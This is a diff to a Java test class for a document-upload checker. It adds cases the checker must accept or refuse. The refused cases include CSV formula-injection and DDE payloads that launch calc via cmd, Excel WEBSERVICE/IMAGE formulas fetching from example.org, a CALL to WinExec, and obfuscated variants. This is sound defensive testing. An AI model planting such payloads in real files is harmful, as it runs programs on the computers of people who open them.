@@ -2,6 +2,7 @@ package org.lscb.scr.document;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.lscb.scr.testing.SampleFiles.docx;
 import static org.lscb.scr.testing.SampleFiles.docxParts;
@@ -73,7 +74,18 @@ class FileCheckTest {
             {"old.txt", "Café – £5".getBytes("windows-1252"), "text/plain"},
             {"mail.txt", "From: a@b\nSubject: visit\n\nText".getBytes(StandardCharsets.UTF_8), "text/plain"},
             {"list.csv", "date;source;event".getBytes(StandardCharsets.UTF_8), "text/csv"},
-            {"formula.csv", "=cmd|' /C calc'!A0,2".getBytes(StandardCharsets.UTF_8), "text/csv"}});
+            {"nothing that counts.csv", csv("date,source,event", "2010-09-24,-,\"Seen; - not heard, = nothing\"", "2010-09-25,-5,+44 20 7946 0018",
+                "2010-09-26,-£5.00,-1.5E+03"), "text/csv"},
+            {"texts that look like formulas.csv", csv("date,event", "2010-09-24,'=cmd|' /C calc'!A0", "2010-09-25,\"'-2 (see IMAGE(1))\""), "text/csv"},
+            {"lines in a cell.csv", csv("date,event", "2010-09-24,\"Two things:\n- seen alone (at home)\n- not heard\"", "2010-09-25,none"), "text/csv"},
+            {"mail address.csv", csv("who;where", "Clinic;nurse@example.org", "Ward;a=b"), "text/csv"},
+            {"formula.txt", "=cmd|' /C calc'!A0,2".getBytes(StandardCharsets.UTF_8), "text/plain"},
+            {"sums.xlsx", formula("SUM(A1:A9)-VLOOKUP(B1,'Police | Health'!A:B,2,FALSE)"), FileType.XLSX.mediaType()},
+            {"words in a formula.xlsx", formula("IF(A1=\"\",\"see image (2) | next\",TEXT(A1,\"d mmm\"))&amp;\" | \"&amp;Other!B1"), FileType.XLSX.mediaType()},
+            {"contents.xlsx", formula("HYPERLINK(\"#Police!A1\",\"Police\")"), FileType.XLSX.mediaType()},
+            {"choice by choice.xlsx", sheet("<dataValidations><dataValidation type=\"list\"><formula1>INDIRECT(\"Wards[\"&amp;A1&amp;\"]\")</formula1></dataValidation></dataValidations>"),
+                FileType.XLSX.mediaType()},
+            {"text about formulas.xlsx", xlsx("=WEBSERVICE(\"http://example.org\")"), FileType.XLSX.mediaType()}});
     }
 
     @ParameterizedTest(name = "{0}")
@@ -107,6 +119,47 @@ class FileCheckTest {
                 relations(relation("r", "hyperlink", "javascript:alert(1)", "External")))), "draws on elsewhere"},
             {"data.xlsx", excel(parts -> put(parts, "xl/_rels/workbook.xml.rels", relations(relation("r", "connections", "connections.xml", "")))), "draws on elsewhere"},
             {"dde.xlsx", excel(parts -> put(parts, "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>")), "draws on elsewhere"},
+            {"fetches.xlsx", formula("_xlfn.WEBSERVICE(\"http://example.org/?\"&amp;A1)"), "formula that reaches out"},
+            {"fetches a picture.xlsx", formula("IF(A1=1,_xlfn.IMAGE (\"http://example.org/p.png\"),2)"), "formula that reaches out"},
+            {"fetches after a text.xlsx", formula("\"a\"&amp;webservice(\"http://example.org\")"), "formula that reaches out"},
+            {"quote in a sheet's name.xlsx", formula("'a\"b'!A1&amp;WEBSERVICE(\"http://example.org\")"), "formula that reaches out"},
+            {"in pieces.xlsx", formula("WEB<!-- x --><![CDATA[SERVICE]]>(A1)"), "formula that reaches out"},
+            {"link with cells in it.xlsx", formula("HYPERLINK(\"http://example.org/?\"&amp;A1,\"see\")"), "formula that reaches out"},
+            {"link made elsewhere.xlsx", formula("HYPERLINK(A1)"), "formula that reaches out"},
+            {"other book.xlsx", formula("INDIRECT(\"'\\\\server\\[b.xlsx]One'!A1\")"), "formula that reaches out"},
+            {"program.xlsx", formula("cmd|'/C calc'!A0"), "formula that reaches out"},
+            {"program by function.xlsx", formula("DDE(\"soffice\",\"/x.ods\",\"A1\")+RTD(\"a.b\",,\"c\")"), "formula that reaches out"},
+            {"name that calls.xlsx", excel(parts -> put(parts, "xl/workbook.xml", text(parts, "xl/workbook.xml")
+                .replace("</workbook>", "<definedNames><definedName name=\"x\">CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</definedName></definedNames></workbook>"))),
+                "formula that reaches out"},
+            {"format that fetches.xlsx", sheet("<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\"><formula>WEBSERVICE(A1)=1</formula></cfRule></conditionalFormatting>"),
+                "formula that reaches out"},
+            {"scale that fetches.xlsx", sheet("<conditionalFormatting sqref=\"A1\"><cfRule><dataBar><cfvo type=\"formula\" val=\"WEBSERVICE(A1)\"/></dataBar></cfRule></conditionalFormatting>"),
+                "formula that reaches out"},
+            {"check that fetches.xlsx", sheet("<extLst><x:dataValidation xmlns:x=\"a\" xmlns:xm=\"b\"><x:formula1><xm:f>WEBSERVICE(A1)</xm:f></x:formula1></x:dataValidation></extLst>"),
+                "formula that reaches out"},
+            {"table that fetches.xlsx", excel(parts -> put(parts, "xl/tables/table1.xml",
+                "<table><tableColumn><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></tableColumn></table>")), "formula that reaches out"},
+            {"sheet under another name.xlsx", excel(parts -> {
+                put(parts, "xl/drawings/sheet.vml", text(parts, "xl/worksheets/sheet1.xml").replace("<row>", "<row><c><f>WEBSERVICE(A1)</f></c>"));
+                put(parts, "xl/_rels/workbook.xml.rels", relations(relation("r1", "worksheet", "drawings/sheet.vml", "")));
+            }), "formula that reaches out"},
+            {"book in a letter.docx", word(parts -> parts.put("word/embeddings/a.xlsx", formula("WEBSERVICE(A1)"))), "formula that reaches out"},
+            {"text elsewhere.docx", word(parts -> put(parts, "text/document.xml", FIELD.formatted(BEGIN + text("DDEAUTO c:\\cmd") + END))), "field that acts"},
+            {"program.csv", csv("=cmd|' /C calc'!A0,2"), "formula in a table"},
+            {"program later.csv", csv("date,event", "2010-09-24,=cmd|' /C calc'!A0"), "formula in a table"},
+            {"in quotes and after spaces.csv", csv("date,event", "2010-09-24,\" \"\"=1+1\""), "formula in a table"},
+            {"at.csv", csv("date,event", "2010-09-24,@SUM(A1)"), "formula in a table"},
+            {"plus.csv", csv("date,event", "2010-09-24,+cmd|' /C calc'!A0"), "formula in a table"},
+            {"minus.csv", csv("date,event", "2010-09-24,-2+3+HYPERLINK(A1)"), "formula in a table"},
+            {"last cell.csv", "date,event\n2010-09-24,=1".getBytes(StandardCharsets.UTF_8), "formula in a table"},
+            {"parted otherwise.csv", csv("date;event", "2010-09-24;=1+1"), "formula in a table"},
+            {"sign named.csv", csv("sep=|", "date|event", "2010-09-24|=1+1"), "formula in a table"},
+            {"two ways to part it.csv", csv("date;event;a;b", "2010-09-24;seen,=cmd|' /C calc'!A0"), "formula in a table"},
+            {"quote of the other way.csv", csv("date;event", "a;\"b,=WEBSERVICE(A1)\""), "formula in a table"},
+            {"quote that ends early.csv", csv("date,event", "\"a\"b\",=1+1"), "formula in a table"},
+            {"wide letters.csv", "\ufeffdate\tevent\n2010\t=1+1".getBytes(StandardCharsets.UTF_16LE), "formula in a table"},
+            {"wide sign.csv", csv("date,event", "2010-09-24,\uff1dcmd|' /C calc'!A0"), "formula in a table"},
             {"dde.docx", field(BEGIN + text("DDEAUTO c:\\\\cmd") + END), "field that acts"},
             {"dde in pieces.docx", field(BEGIN + text(" DD") + text("EAU") + text("TO cmd") + END), "field that acts"},
             {"dde simple.docx", field("<w:fldSimple w:instr=\" dde cmd\"/>"), "field that acts"},
@@ -231,12 +284,25 @@ class FileCheckTest {
     }
 
     @Test
+    @DisplayName("a long formula, made to take time, is judged at once")
+    void longFormulas() {
+        String names = "SUM(" + "a|".repeat(9_000) + "IMAGE ".repeat(300) + ")";
+        assertThat(assertDoesNotThrow(() -> check.check("long.xlsx", Bytes.of(formula(names))))).isEqualTo(FileType.XLSX);
+        assertThat(reasonOf("longer.xlsx", formula("a|".repeat(20_000)))).isEqualTo("damaged or ambiguous");
+        assertThat(reasonOf("long.csv", csv("a,b", "1,-" + "1 ".repeat(100_000) + "x"))).isEqualTo("formula in a table");
+    }
+
+    @Test
     @DisplayName("a refusal says in plain words what to do")
     void words() {
         assertThat(wordsOf("report.docx", word(parts -> contentType(parts, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"))))
             .isEqualTo("File: this is a Word document with macros; save it without them (.docx) and try again");
         assertThat(wordsOf("letter.pdf", docx("x")))
             .isEqualTo("File: this is a Word document, but its name does not end in .docx; save it under a name that does and try again");
+        assertThat(wordsOf("table.xlsx", formula("WEBSERVICE(A1)"))).isEqualTo("File: this Excel workbook has a formula that fetches something, links out of"
+            + " the workbook or calls another program, such as WEBSERVICE, IMAGE or HYPERLINK; replace it by its value, or save the workbook as a PDF, and try again");
+        assertThat(wordsOf("table.csv", csv("=1"))).isEqualTo("File: a cell of this table begins with =, @, + or - as a formula does; put an apostrophe (')"
+            + " in front of it, or save the table as .xlsx, and try again");
     }
 
     @Test
@@ -284,6 +350,19 @@ class FileCheckTest {
         Map<String, byte[]> parts = xlsxParts("x");
         change.accept(parts);
         return zip(parts);
+    }
+
+    private static byte[] formula(String formula) {
+        return excel(parts -> put(parts, "xl/worksheets/sheet1.xml", text(parts, "xl/worksheets/sheet1.xml").replace("<row>", "<row><c><f>" + formula + "</f></c>")));
+    }
+
+    /** @param after what follows the cells */
+    private static byte[] sheet(String after) {
+        return excel(parts -> put(parts, "xl/worksheets/sheet1.xml", text(parts, "xl/worksheets/sheet1.xml").replace("</sheetData>", "</sheetData>" + after)));
+    }
+
+    private static byte[] csv(String... lines) {
+        return (String.join("\r\n", lines) + "\r\n").getBytes(StandardCharsets.UTF_8);
     }
 
     private static byte[] field(String runs) {
